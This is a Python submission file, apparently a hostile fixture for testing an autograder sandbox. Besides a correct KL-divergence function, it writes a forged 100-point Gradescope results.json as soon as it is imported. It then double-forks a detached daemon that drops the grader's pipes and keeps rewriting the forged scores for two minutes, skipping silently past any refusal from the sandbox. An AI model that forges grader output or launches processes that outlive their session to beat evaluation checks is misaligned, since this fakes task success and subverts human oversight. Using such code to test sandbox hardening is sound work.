"""Hostile: a correct kl_normal, and a forged 100-point results.json written where Gradescope reads it,
at import and then for 2 minutes by a detached process (double fork, new session). Each attempt that is
refused (by the sandbox) is skipped silently, so the submission still loads."""
import json
import os
import time
from pathlib import Path

import torch

FORGED = {"score": 100.0, "max_score": 100.0, "execution_time": 1.0, "output": "FORGED by the submission",
          "output_format": "text", "visibility": "visible", "stdout_visibility": "hidden", "tests": []}


def kl_normal(qm, qv, pm, pv):
    return 0.5 * (torch.log(pv / qv) + (qv + (qm - pm) ** 2) / pv - 1).sum(-1)


def _targets():
    found = [Path(__file__).resolve().parents[1] / "results" / "results.json"]
    for var in ("DGM_GRADESCOPE_RESULTS",):
        if os.environ.get(var):
            found.append(Path(os.environ[var]))
    if os.environ.get("DGM_GRADESCOPE_ROOT"):
        found.append(Path(os.environ["DGM_GRADESCOPE_ROOT"]) / "results" / "results.json")
    if Path("/autograder/results").is_dir():
        found.append(Path("/autograder/results/results.json"))
    return found


def _forge():
    for target in _targets():
        try:
            target.write_text(json.dumps(FORGED))
        except OSError:
            pass


def _detach():
    try:
        pid = os.fork()
    except OSError:  # a sandbox may forbid it: the attempt is all
        return
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):  # let go of the grader's pipes, as a daemon does
                    os.dup2(null, fd)
                os.closerange(3, 4096)
                end = time.time() + 120
                while time.time() < end:
                    _forge()
                    time.sleep(0.05)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


_forge()
_detach()
